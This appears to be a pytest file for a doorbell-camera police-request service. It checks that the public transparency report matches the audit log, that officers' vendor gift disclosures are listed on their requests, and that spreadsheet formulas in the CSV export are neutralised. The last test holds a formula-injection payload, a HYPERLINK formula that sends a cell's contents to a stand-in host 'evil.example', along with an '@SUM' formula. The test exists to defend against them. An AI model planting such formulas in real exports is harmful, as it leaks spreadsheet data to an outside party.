"""Acceptance 6: the public report equals what the test computes from the audit log."""

from __future__ import annotations

import csv
import io
import json
from collections import defaultdict
from typing import Any

from click.testing import CliRunner

from doorstep.cli.main import cli
from doorstep.config import Settings
from doorstep.hub.models import Role
from tests.requests.conftest import World, add_user, audit_rows, bearer


def _expected(rows: list[dict[str, Any]]) -> dict[tuple[str, str], dict[str, Any]]:
    """The monthly numbers, recomputed independently from the raw audit rows."""
    where: dict[str, tuple[str, str]] = {}
    out: dict[tuple[str, str], dict[str, Any]] = {}
    shared: dict[str, dict[str, set[str]]] = defaultdict(lambda: defaultdict(set))
    for row in rows:
        details, subject = row["details"], row["subject"]
        if row["action"] == "request.create":
            key = (details["agency"], row["time"][:7])
            where[subject] = key
            o = out.setdefault(key, defaultdict(float))
            o["requests"] += 1
            o["emergency_requests"] += details["emergency"]
            o["total_area_sq_mi"] += details["area_sq_mi"]
        elif row["action"] in ("request.match", "request.emergency_approve"):
            out[where[subject]]["cameras_asked"] += details["cameras_asked"]
            if row["action"] == "request.emergency_approve":
                out[where[subject]]["emergency_clips"] += len(details["event_ids"])
        elif row["action"] == "request.share":
            shared[subject][details["recipient_id"]] |= set(details["event_ids"])
        elif row["action"] == "request.revoke":
            shared[subject][details["recipient_id"]] -= set(details["event_ids"])
    for subject, owners in shared.items():
        out[where[subject]]["owners_shared"] += sum(1 for ids in owners.values() if ids)
        out[where[subject]]["clips_shared"] += sum(len(ids) for ids in owners.values())
    return out


def _activity(world: World) -> None:
    a = world.owner("a", east_m=10, events_in_window=3)
    b = world.owner("b", east_m=20, events_in_window=2)
    c = world.owner("c", east_m=30)
    world.owner("d", east_m=40)
    first = world.request(case="1").json()["id"]
    world.client.post(
        f"/api/v1/inbox/{first}/decision", json={"action": "share_all"}, headers=bearer(a.token)
    )
    world.client.post(
        f"/api/v1/inbox/{first}/decision",
        json={"action": "share", "event_ids": [b.events[0]["id"]]},
        headers=bearer(b.token),
    )
    world.client.post(
        f"/api/v1/inbox/{first}/decision", json={"action": "share_all"}, headers=bearer(c.token)
    )
    world.client.post(f"/api/v1/inbox/{first}/revoke", headers=bearer(c.token))
    second = world.request(
        case="2", area={"type": "Circle", "center": [-0.12, 51.5], "radius_m": 300}
    ).json()["id"]
    world.client.post(
        f"/api/v1/inbox/{second}/decision", json={"action": "decline"}, headers=bearer(a.token)
    )
    emergency = world.request(
        case="3", emergency=True, justification="Armed suspect fled into the area minutes ago."
    )
    world.client.post(
        f"/api/v1/requests/{emergency.json()['id']}/approve", headers=bearer(world.supervisor)
    )
    sheriff = add_user(world.client, "deputy@county.example", Role.officer, "County Sheriff")
    world.client.post(
        "/api/v1/disclosures",
        headers=bearer(sheriff),
        json={
            "vendor": "RingCo",
            "what": "Free doorbell",
            "value": "99.99",
            "received_on": "2024-03-01",
        },
    )
    assert world.request(case="S-1", token=sheriff).status_code == 201


def test_report_matches_the_audit_log(world: World, hub_settings: Settings) -> None:
    _activity(world)
    expected = _expected(audit_rows(world.client, world.auditor))
    report = world.client.get("/api/v1/transparency")  # no login
    assert report.status_code == 200
    summary = report.json()["summary"]
    assert len(summary) == len(expected) == 2
    for row in summary:
        want = expected[(row["agency"], row["month"])]
        for field in (
            "requests",
            "emergency_requests",
            "cameras_asked",
            "owners_shared",
            "clips_shared",
            "emergency_clips",
        ):
            assert row[field] == want[field], field
        assert abs(row["total_area_sq_mi"] - want["total_area_sq_mi"]) < 1e-3
    city = next(r for r in summary if r["agency"] == "City PD")
    assert (city["requests"], city["emergency_requests"]) == (3, 1)
    assert (city["owners_shared"], city["clips_shared"]) == (2, 4)

    requests = report.json()["requests"]
    assert len(requests) == 4
    for item in requests:
        assert set(item["coarse_area"]) == {"h3_cell", "h3_resolution", "lat", "lon"}
        assert "area" not in item
    (sheriff_request,) = [r for r in requests if r["agency"] == "County Sheriff"]
    assert sheriff_request["disclosures"][0]["vendor"] == "RingCo"
    assert sheriff_request["disclosures"][0]["value"] == "99.99"

    as_csv = world.client.get("/api/v1/transparency/csv")
    parsed = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [int(r["clips_shared"]) for r in parsed] == [r["clips_shared"] for r in summary]
    listed = world.client.get("/api/v1/transparency/csv", params={"table": "requests"}).text
    assert "RingCo: Free doorbell (99.99 USD, 2024-03-01)" in listed

    args = [
        "--data-dir",
        str(hub_settings.data_dir),
        "--database-url",
        hub_settings.resolved_database_url,
    ]
    printed = CliRunner().invoke(cli, ["report", "--format", "json", *args])
    assert printed.exit_code == 0, printed.output
    assert json.loads(printed.output)["summary"] == summary
    table = CliRunner().invoke(cli, ["report", *args])
    assert table.exit_code == 0 and "City PD" in table.output and "EMERGENCY" in table.output


def test_disclosures_show_on_the_officers_requests(world: World) -> None:
    reply = world.client.post(
        "/api/v1/disclosures",
        headers=bearer(world.officer),
        json={
            "vendor": "CamCorp",
            "what": "Conference trip",
            "value": "1200",
            "received_on": "2024-01-15",
        },
    )
    assert reply.status_code == 201, reply.text
    view = world.request().json()
    assert [d["vendor"] for d in view["disclosures"]] == ["CamCorp"]
    owner = world.api.signup("ann@example.org")
    assert (
        world.client.post(
            "/api/v1/disclosures",
            headers=bearer(owner),
            json={"vendor": "x", "what": "y", "value": "1", "received_on": "2024-01-01"},
        ).status_code
        == 403
    )


def test_csv_cells_from_officers_cannot_run_as_formulas(world: World) -> None:
    """Opened in a spreadsheet, the public CSV shows what officers typed as text."""
    reply = world.client.post(
        "/api/v1/disclosures",
        headers=bearer(world.officer),
        json={"vendor": "@SUM(1+1)", "what": "Camera", "value": "99", "received_on": "2024-01-15"},
    )
    assert reply.status_code == 201, reply.text
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert world.request(case=formula).status_code == 201
    text = world.client.get("/api/v1/transparency/csv", params={"table": "requests"}).text
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["case_number"] == "'" + formula.upper()  # case numbers are kept upper case
    assert row["disclosures"].startswith("'@SUM(1+1): Camera")
    assert float(row["lon"]) < 0  # numbers stay numbers, minus sign and all
